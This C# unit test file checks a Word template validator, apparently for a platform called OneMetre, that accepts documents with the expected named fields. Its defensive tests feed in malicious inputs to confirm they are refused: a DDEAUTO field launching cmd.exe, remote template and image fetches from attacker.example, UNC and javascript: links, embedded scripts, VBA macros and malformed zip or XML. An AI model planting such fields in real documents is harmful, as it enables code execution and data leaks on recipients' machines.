using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using OneMetre.Platform.Templates;
using OneMetre.Tests.Fixtures;
using OneMetre.Tests.Platform.Documents;

namespace OneMetre.Tests.Platform.Templates;

/// <summary>A template reaches nowhere, runs nothing, hides nothing, and says only what the paper can say.</summary>
public sealed class TemplateCheckTests
{
    static readonly IReadOnlyList<PaperField> Shape = ["单位", PaperField.Chapter("正文"), PaperField.Rows("任务", "名称", PaperField.Rows("目标", "文字")), PaperField.When("逾期")];

    static string Control(string name, string content) => $"<w:sdt><w:sdtPr><w:tag w:val=\"{name}\"/></w:sdtPr><w:sdtContent>{content}</w:sdtContent></w:sdt>";
    static string R(string text) => $"<w:r><w:t>{text}</w:t></w:r>";
    static string P(string content) => $"<w:p>{content}</w:p>";
    static IEnumerable<string> Codes(byte[] file) => TemplateCheck.Of(file, Shape).Select(p => p.Code);

    static byte[] With(Action<MainDocumentPart> change, string body = "<w:p/>")
    {
        using var stream = new MemoryStream();
        stream.Write(WordFile.Of(body));
        using (var file = WordprocessingDocument.Open(stream, true)) change(file.MainDocumentPart!);
        return stream.ToArray();
    }

    [Fact]
    public void A_good_template_passes_with_its_fields_in_their_places()
    {
        Assert.Empty(Codes(WordFile.Of(P(R("致") + Control("单位", R("x"))) + Control("正文", P(R("x"))) + P(Control("正文", R("x"))) + Control("任务", P(Control("序号", R("1")) + Control("名称", R("x")) + Control("单位", R("x"))) + Control("目标", P(Control("文字", R("x")) + Control("名称", R("x"))))) + Control("逾期", P(R("逾期"))),
            header: P(Control("单位", R("x")) + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PA</w:instrText></w:r><w:r><w:instrText>GE \\* MERGEFORMAT</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"))));
        Assert.Equal(["单位", "任务"], TemplateCheck.Tags(new MemoryStream(WordFile.Of(P(Control("单位", R("x"))) + Control("任务", P(R("x")))))));
    }

    [Fact]
    public void What_the_paper_must_have_is_asked_for_by_name()
    {
        Assert.Empty(TemplateCheck.Of(WordFile.Of(P(Control("单位", R("x")))), Shape, "单位"));
        var problem = Assert.Single(TemplateCheck.Of(WordFile.Of(P(Control("单位", R("x")))), Shape, "单位", "逾期", "任务"));
        Assert.Equal(("platform.template-lacks", "逾期、任务"), (problem.Code, (string)problem.Args[0]));
    }

    [Fact]
    public void A_tag_that_is_no_field_here_is_named_with_what_is_like_it()
    {
        var problem = Assert.Single(TemplateCheck.Of(WordFile.Of(P(Control("单立", R("x")))), Shape));
        Assert.Equal("platform.template-unknown", problem.Code);
        Assert.Equal("单立", problem.Args[0]);
        Assert.StartsWith("单位", (string)problem.Args[1], StringComparison.Ordinal);
        // A field of a row does not stand outside of it, nor does the number of one.
        Assert.Equal(["platform.template-strange", "platform.template-strange"], Codes(WordFile.Of(P(Control("名称", R("x")) + Control("序号", R("1"))))));
    }

    [Fact]
    public void A_field_where_it_cannot_stand_is_refused()
    {
        Assert.Equal(["platform.template-chapter"], Codes(WordFile.Of(P(R("见") + Control("正文", R("x"))))));
        Assert.Equal(["platform.template-chapter"], Codes(WordFile.Of("<w:p/>", header: Control("正文", P(R("x")))))); // its links and charts would be of another part
        static string Table(string rows) => $"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w=\"900\"/></w:tblGrid>{rows}</w:tbl><w:p/>";
        Assert.Equal(["platform.template-words"], Codes(WordFile.Of(Table(Control("单位", "<w:tr><w:tc><w:p/></w:tc></w:tr>")))));
        Assert.Equal(["platform.template-rows"], Codes(WordFile.Of(Table("<w:tr>" + Control("任务", "<w:tc><w:p/></w:tc>") + "</w:tr>"))));
    }

    [Fact]
    public void A_list_within_itself_or_too_large_to_repeat_is_refused()
    {
        // Nothing known stands there: rows see only their own rows.
        Assert.Equal(["platform.template-strange"], Codes(WordFile.Of(Control("任务", P(R("x")) + Control("任务", P(Control("任务", R("x"))))))));
        Assert.Equal(["platform.template-row-large"], Codes(WordFile.Of(Control("任务", string.Concat(Enumerable.Repeat(P(R("x")), 400))))));
        Assert.Equal(["platform.template-too-many"], Codes(WordFile.Of(P(string.Concat(Enumerable.Repeat(Control("单位", R("x")), 501))))));
        Assert.Empty(Codes(WordFile.Of(Control("逾期", Control("任务", P(R("x")))))));
    }

    [Theory]
    [InlineData("INCLUDETEXT \"\\\\\\\\host\\\\share\\\\x.docx\"")]
    [InlineData("INCLUDEPICTURE \"https://attacker.example/x.png\" \\d")]
    [InlineData("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")]
    [InlineData("LINK Excel.Sheet.8 x y")]
    [InlineData("MACROBUTTON x y")]
    [InlineData("QUOTE 68 68 69")]
    public void A_field_that_fetches_or_runs_is_refused_however_it_is_cut_up(string code)
    {
        Assert.Equal(["platform.template-field"], Codes(WordFile.Of($"<w:p><w:fldSimple w:instr=\"{System.Security.SecurityElement.Escape(" " + code)}\"/></w:p>")));
        var cut = string.Concat(code.Chunk(2).Select(c => $"<w:r><w:instrText xml:space=\"preserve\">{System.Security.SecurityElement.Escape(new string(c))}</w:instrText></w:r>"));
        Assert.Equal(["platform.template-field"], Codes(WordFile.Of($"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{cut}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")));
        // Within a harmless one.
        Assert.Equal(["platform.template-field"], Codes(WordFile.Of($"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{cut}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")));
    }

    [Fact]
    public void What_reaches_out_is_refused()
    {
        Assert.Equal(["platform.template-reaches-out"], Codes(With(m =>
        {
            var settings = m.AddNewPart<DocumentSettingsPart>();
            settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new("https://attacker.example/evil.dotm"));
            settings.Settings = new(new AttachedTemplate { Id = settings.ExternalRelationships.Single().Id });
        })));
        Assert.Equal(["platform.template-reaches-out"], Codes(With(m => m.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new("https://attacker.example/pixel.png")))));
        Assert.Equal(["platform.template-link"], Codes(With(m => m.AddHyperlinkRelationship(new("file://host/share/x"), true))));
        Assert.Equal(["platform.template-link"], Codes(With(m => m.AddHyperlinkRelationship(new("javascript:alert(1)"), true))));
        Assert.Empty(Codes(With(m => m.AddHyperlinkRelationship(new("https://city.example/"), true))));
        static string Link(string code) => $"<w:p><w:fldSimple w:instr=\"{System.Security.SecurityElement.Escape(code)}\"/></w:p>";
        Assert.Equal(["platform.template-link"], Codes(WordFile.Of(Link(" HYPERLINK \"\\\\host\\share\\x\" "))));
        Assert.Equal(["platform.template-link"], Codes(WordFile.Of(Link("HYPERLINK file:///c:/x"))));
        Assert.Empty(Codes(WordFile.Of(Link(" HYPERLINK \\l \"_Toc1\" ") + Link("HYPERLINK \"https://city.example/a\" \\o \"x\""))));
        Assert.Equal(["platform.template-link"], Codes(WordFile.Of("<w:p><w:r><w:pict><v:shape href=\"file://host/x\"/></w:pict></w:r></w:p>")));
    }

    [Fact]
    public void Other_documents_objects_macros_and_pictures_that_are_programs_are_refused()
    {
        Assert.Equal(["platform.template-part"], Codes(With(m => m.AddAlternativeFormatImportPart(AlternativeFormatImportPartType.Html).FeedData(new MemoryStream("<script>alert(1)</script>"u8.ToArray())))));
        Assert.Equal(["platform.template-part"], Codes(With(m => m.AddEmbeddedPackagePart("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet").FeedData(new MemoryStream([1])))));
        Assert.Equal(["platform.template-part"], Codes(With(m => m.AddImagePart(ImagePartType.Svg).FeedData(new MemoryStream("<svg/>"u8.ToArray())))));
        Assert.Equal(["platform.template-part"], Codes(With(m => m.AddImagePart(ImagePartType.Emf).FeedData(new MemoryStream([1])))));
        Assert.Empty(Codes(With(m => m.AddImagePart(ImagePartType.Png).FeedData(new MemoryStream([1])))));
        Assert.Equal(["platform.document-has-macros"], Codes(With(m => m.AddNewPart<VbaProjectPart>().FeedData(new MemoryStream([1])))));
    }

    [Fact]
    public void Tracked_changes_and_comments_would_go_out_with_every_paper()
    {
        Assert.Equal(["platform.template-tracked"], Codes(WordFile.Of("<w:p><w:ins w:id=\"1\" w:author=\"x\"><w:r><w:t>新</w:t></w:r></w:ins><w:del w:id=\"2\" w:author=\"x\"><w:r><w:delText>旧</w:delText></w:r></w:del></w:p>")));
        Assert.Equal(["platform.template-comments"], Codes(With(m => m.AddNewPart<WordprocessingCommentsPart>().Comments = new())));
    }

    [Fact]
    public void A_file_that_is_no_document_or_a_lying_one_is_refused()
    {
        Assert.Equal(["platform.document-truncated"], Codes("not a zip"u8.ToArray()));
        Assert.Equal(["platform.document-truncated"], Codes(WordFile.Of("<w:p/>")[..200]));
        Assert.NotEmpty(Codes(Zip(("word/document.xml", "<!DOCTYPE x [<!ENTITY a \"haha\">]><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>"))));
        // Two parts of one name: what was looked at need not be what is read.
        Assert.NotEmpty(Codes(Zip(("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"), ("word/document.xml", "<a/>"), ("word/document.xml", "<b/>"))));
        // Deeper than a reader can go.
        var deep = string.Concat(Enumerable.Repeat("<w:sdt><w:sdtContent>", 3_000)) + string.Concat(Enumerable.Repeat("</w:sdtContent></w:sdt>", 3_000));
        var file = Zip(("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"),
            ("_rels/.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>"),
            ("word/document.xml", $"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{deep}</w:body></w:document>"));
        Assert.Equal(["platform.document-too-deep"], Codes(file));
    }

    /// <summary>Bytes turned at will: refused with a reason or taken, never thrown.</summary>
    [Fact]
    public void A_damaged_template_is_refused_and_not_thrown()
    {
        var whole = WordFile.Of(P(Control("单位", R("x"))) + Control("任务", P(Control("名称", R("x")))));
        var refused = 0;
        for (var seed = 0; seed < 300; seed++)
        {
            var chance = new Random(seed);
            var bytes = (byte[])whole.Clone();
            for (var n = 0; n <= seed % 5; n++) bytes[chance.Next(bytes.Length)] = (byte)chance.Next(256);
            if (TemplateCheck.Of(bytes, Shape).Count > 0)
            {
                refused++;
                continue;
            }
            using var file = PaperFile.Filled(new MemoryStream(bytes), new("题", PaperFields.Blank(Shape)));
            Assert.True(file.Length > 0);
        }
        Assert.InRange(refused, 1, 300);
    }

    static byte[] Zip(params (string Name, string Content)[] parts)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, content) in parts)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(Encoding.UTF8.GetBytes(content));
            }
        return stream.ToArray();
    }
}
